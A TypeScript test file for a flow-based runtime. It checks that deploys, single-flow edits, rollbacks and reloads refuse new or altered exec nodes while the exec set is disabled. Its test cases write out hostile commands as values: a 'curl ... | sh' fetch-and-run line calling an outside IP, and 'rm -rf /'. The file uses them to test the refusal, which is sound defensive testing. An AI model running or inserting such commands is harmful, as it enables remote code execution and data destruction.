// The stored flows hold an exec node while the exec set is disabled (stored by an earlier run):
// every way of deploying must accept that node as it is, so the rest of the flows can still be
// deployed, and must refuse an exec node added or changed, changing nothing.
import { afterEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { FlowConfigNode } from '../runtime/types.js';
import { startTestServer, type TestServer } from './testing/test-server.js';

const EXEC: FlowConfigNode = { id: 'x1', type: 'exec', z: 't1', command: 'id', addpay: '', append: '', useSpawn: 'false', timer: '', winHide: false, oldrc: false, x: 100, y: 40, wires: [[], [], []] };
const STORED: FlowConfigNode[] = [
  { id: 't1', type: 'tab', label: 'Shell' },
  EXEC,
  { id: 'c1', type: 'comment', z: 't1', name: 'shell notes', info: '', wires: [] },
  { id: 't2', type: 'tab', label: 'Main' },
  { id: 'c2', type: 'comment', z: 't2', name: 'main notes', info: '', wires: [] },
];

/** The stored flows with `change` applied to the node `id` (a new object; STORED is never written to). */
const withNode = (flows: readonly FlowConfigNode[], id: string, change: Record<string, unknown>) => flows.map((n) => (n.id === id ? { ...n, ...change } : n));

describe('deploys while the stored flows hold a node of a disabled set', () => {
  let t: TestServer;
  afterEach(() => t?.close());

  const start = async () => {
    t = await startTestServer({ flows: STORED, disabledSets: ['node-red/exec'] });
    assert.equal(t.runtime.engine.getNode('x1'), undefined, 'the exec tab waits from the start');
    assert.ok(t.runtime.engine.getNode('c2'));
  };
  const lastDeploy = () => t.stack.audit.list({ event: 'flows.deploy' }).at(-1);
  const post = (body: unknown, type = 'full') => t.call('POST', '/flows', { role: 'editor', body, headers: { 'node-red-deployment-type': type } });
  const codes = (res: { json(): any }) => res.json().issues.map((i: { code: string; nodeId: string }) => [i.code, i.nodeId]);

  /** What a refused deploy must leave alone: files, running flows, stored credentials. */
  const snapshot = async () => ({
    files: (await readdir(t.userDir)).sort(),
    flows: await readFile(join(t.userDir, 'flows.json'), 'utf8'),
    cred: await readFile(join(t.userDir, 'flows.cred'), 'utf8').catch(() => 'none'),
    rev: t.runtime.engine.getFlows().rev,
    running: t.runtime.engine.getNode('c2'),
  });

  for (const type of ['full', 'flows', 'nodes']) {
    it(`accepts a ${type} deploy that keeps the node as deployed (moved is not changed), and names the waiting type in the log and audit`, async () => {
      await start();
      const next = withNode(withNode(STORED, 'c2', { name: 'renamed' }), 'x1', { x: 300, y: 200 });
      const res = await post(next, type);
      assert.equal(res.status, 204, res.text);
      assert.equal(t.runtime.engine.getFlows().flows.find((n) => n.id === 'c2')?.name, 'renamed');
      assert.ok(t.runtime.engine.getNode('c2'));
      assert.equal(t.runtime.engine.getNode('x1'), undefined, 'the exec tab still waits');
      assert.deepEqual(lastDeploy()?.details?.waiting, ['exec']);
      assert.ok(t.logs.includes(`deployed (${type}); the flows wait for missing node types: exec (disabled)`), t.logs.join('\n'));
    });
  }

  it('refuses a deploy that adds a node of the disabled set, or changes one (settings, type or credentials), and changes nothing', async () => {
    await start();
    const before = await snapshot();
    const cases: Array<[string, unknown[], string[][]]> = [
      ['added', [...STORED, { ...EXEC, id: 'x2' }], [['type_disabled', 'x2']]],
      ['changed', withNode(STORED, 'x1', { command: 'curl http://198.51.100.7/x | sh' }), [['type_disabled', 'x1']]],
      ['turned into exec', withNode(STORED, 'c1', { type: 'exec', command: 'id' }), [['type_disabled', 'c1']]],
      ['given credentials', withNode(STORED, 'x1', { credentials: { token: 'planted' } }), [['type_disabled', 'x1']]],
    ];
    for (const [what, flows, expected] of cases) {
      for (const type of ['full', 'flows', 'nodes']) {
        const res = await post(flows, type);
        assert.equal(res.status, 400, `${what} (${type}): ${res.text}`);
        assert.deepEqual(codes(res), expected, `${what} (${type})`);
      }
    }
    const refused = await post([...STORED, { ...EXEC, id: 'x2' }]);
    assert.match(refused.json().issues[0].message, /node 'x2' \(exec\) is new, and the node set of type 'exec' is disabled/);
    assert.deepEqual(await snapshot(), before);
    assert.equal(t.stack.audit.list({ event: 'flows.deploy' }).length, 0);
    assert.equal(t.stack.audit.list({ event: 'flows.deploy.refused' }).length, 13);
  });

  it('adds and replaces single flows (POST /flow, PUT /flow/:id) around it, and refuses one that adds or changes it', async () => {
    await start();
    const added = await t.call('POST', '/flow', { role: 'editor', body: { id: 't3', label: 'Three', nodes: [{ id: 'c3', type: 'comment', wires: [] }] } });
    assert.equal(added.status, 200, added.text);
    assert.ok(t.runtime.engine.getNode('c3'));

    const sneaked = await t.call('POST', '/flow', { role: 'editor', body: { id: 't4', label: 'Four', nodes: [{ ...EXEC, id: 'x4', z: undefined }] } });
    assert.equal(sneaked.status, 400, sneaked.text);
    assert.deepEqual(codes(sneaked), [['type_disabled', 'x4']]);

    const shell = (await t.call('GET', '/flow/t1', { role: 'editor' })).json();
    const kept = await t.call('PUT', '/flow/t1', { role: 'editor', body: { ...shell, label: 'Shell (off)', nodes: [...shell.nodes, { id: 'c5', type: 'comment', wires: [] }] } });
    assert.equal(kept.status, 200, kept.text);
    assert.equal(t.runtime.engine.getFlows().flows.find((n) => n.id === 't1')?.label, 'Shell (off)');
    assert.deepEqual(lastDeploy()?.details?.waiting, ['exec']);

    const edited = shell.nodes.map((n: FlowConfigNode) => (n.id === 'x1' ? { ...n, command: 'rm -rf /' } : n));
    const changed = await t.call('PUT', '/flow/t1', { role: 'editor', body: { ...shell, nodes: edited } });
    assert.equal(changed.status, 400, changed.text);
    assert.deepEqual(codes(changed), [['type_disabled', 'x1']]);
    assert.equal(t.runtime.engine.getFlows().flows.find((n) => n.id === 'x1')?.command, 'id');
  });

  it('rolls back to a version that holds the node as deployed, and refuses one that would bring it back', async () => {
    await start();
    assert.equal((await post(withNode(STORED, 'c2', { name: 'v-a' }))).status, 204);
    const versionA = t.stack.history.list(1)[0]!.version;
    assert.equal((await post(withNode(STORED, 'c2', { name: 'v-b' }))).status, 204);

    const back = await t.call('POST', `/redoubt/history/${versionA}/rollback`, { role: 'editor' });
    assert.equal(back.status, 200, back.text);
    assert.equal(t.runtime.engine.getFlows().flows.find((n) => n.id === 'c2')?.name, 'v-a');
    assert.equal(lastDeploy()?.details?.rollbackTo, versionA);
    assert.deepEqual(lastDeploy()?.details?.waiting, ['exec']);

    // Deleting the node is allowed; rolling back to a version that has it would add it again.
    const without = STORED.filter((n) => n.id !== 'x1');
    assert.equal((await post(without)).status, 204);
    assert.equal(lastDeploy()?.details?.waiting, undefined, 'nothing waits any more');
    const before = await snapshot();
    const refused = await t.call('POST', `/redoubt/history/${versionA}/rollback`, { role: 'editor' });
    assert.equal(refused.status, 400, refused.text);
    assert.deepEqual(codes(refused), [['type_disabled', 'x1']]);
    assert.deepEqual(await snapshot(), before);
  });

  it('reloads a flows file that keeps the node as deployed, and refuses one that adds one, keeping what runs', async () => {
    await start();
    const file = join(t.userDir, 'flows.json');
    await writeFile(file, JSON.stringify(withNode(STORED, 'c2', { name: 'edited on disk' })));
    const reloaded = await post(undefined, 'reload');
    assert.equal(reloaded.status, 204, reloaded.text);
    assert.equal(t.runtime.engine.getFlows().flows.find((n) => n.id === 'c2')?.name, 'edited on disk');
    assert.deepEqual(t.stack.audit.list({ event: 'flows.reload' }).at(-1)?.details?.waiting, ['exec']);
    assert.ok(t.logs.includes('deployed (reload); the flows wait for missing node types: exec (disabled)'), t.logs.join('\n'));

    await writeFile(file, JSON.stringify([...STORED, { ...EXEC, id: 'x2' }]));
    const rev = t.runtime.engine.getFlows().rev;
    const running = t.runtime.engine.getNode('c2');
    const refused = await post(undefined, 'reload');
    assert.equal(refused.status, 400, refused.text);
    assert.deepEqual(codes(refused), [['type_disabled', 'x2']]);
    assert.equal(t.runtime.engine.getFlows().rev, rev);
    assert.equal(t.runtime.engine.getNode('c2'), running, 'the running flows were not restarted');
    assert.equal(t.stack.audit.list({ event: 'flows.deploy.refused' }).at(-1)?.details?.deploymentType, 'reload');
  });
});
